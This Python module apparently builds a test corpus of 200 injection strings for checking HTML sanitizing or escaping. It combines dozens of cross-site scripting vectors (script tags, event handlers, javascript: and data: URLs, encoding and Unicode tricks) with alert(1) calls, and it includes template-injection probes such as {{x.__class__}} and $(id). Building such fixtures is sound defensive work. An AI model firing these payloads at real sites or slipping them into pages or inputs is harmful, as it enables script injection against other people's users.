"""Two hundred ways in which others have smuggled script, style, links and templates into a page."""

from __future__ import annotations

from itertools import product

CALL = "alert(1)"

_TAGS = [
    "<script>{}</script>",
    "<script/src=data:,{}></script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</template><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<ScRiPt>{}</sCrIpT>",
    "<script\x0b>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    "<img/src=x/onerror={}>",
    "<img src=x:x onerror\n={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributename=x>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<math href='javascript:{}'>x</math>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src='javascript:{}'>",
    "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>",
    "<a href='javascript:{}'>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "<a href='&#106;avascript:{}'>x</a>",
    "<a href=' \x01javascript:{}'>x</a>",
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<button formaction='javascript:{}'>x</button>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<style>@import 'javascript:{}';</style>",
    "<style onload={}></style>",
    "<div style='background:url(javascript:{})'>",
    "<div style='width:expression({})'>",
    "<x hx-on:click='{}' hx-trigger=load hx-get=/x>",
    "<x hx-vals='js:{{a:{}}}' hx-trigger=load hx-get=/x>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<p title='\"><img src=x onerror={}>'>",
]
_BREAKOUTS = [
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    '" onmouseover={} x="',
    "' onfocus={} autofocus x='",
    "` onmouseover={} x=`",
    '\\"; {}; //',
    "'-{}-'",
    '";{}//',
    "</script>\u2028{}//",
    "${{{}}}",
    "`${{{}}}`",
    "\\u003cimg src=x onerror={}\\u003e",
    "&lt;img src=x onerror={}&gt;",
    "%3Cimg%20src=x%20onerror={}%3E",
    "＜script＞{}＜/script＞",
    "\u202e<script>{}</script>",
    "<\u200bscript>{}</script>",
    "![x](javascript:{})",
    "[x](javascript:{})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "javascript:{}",
    'https://example.test/"onmouseover="{}',
    "https://example.test/?a=<script>{}</script>",
    'x@example.test"><script>{}</script>',
    "<b onclick={}>bold</b> <i style=color:red>x</i>",
]
_TEMPLATES = [
    "{{7*7}}",
    "{{x.__class__}}",
    "{% debug %}",
    "{0.__globals__}",
    "%(x)s %s %n",
    "#{7*7}",
    "<%= 7*7 %>",
    "$(id)",
]
_CALLS = (CALL, "alert`1`", "top['al'+'ert'](1)", "import('data:text/javascript,alert(1)')")


def payloads(count: int = 200) -> list[str]:
    shapes = [*_TAGS, *_BREAKOUTS]
    made = [*_TEMPLATES, *(shape.format(call) for call, shape in product(_CALLS, shapes))]
    assert len(made) >= count
    return made[:count]


def short(longest: int) -> list[str]:
    """Those that fit into a column of so many characters, or the most telling part of them."""
    return [payload[:longest] for payload in payloads()]
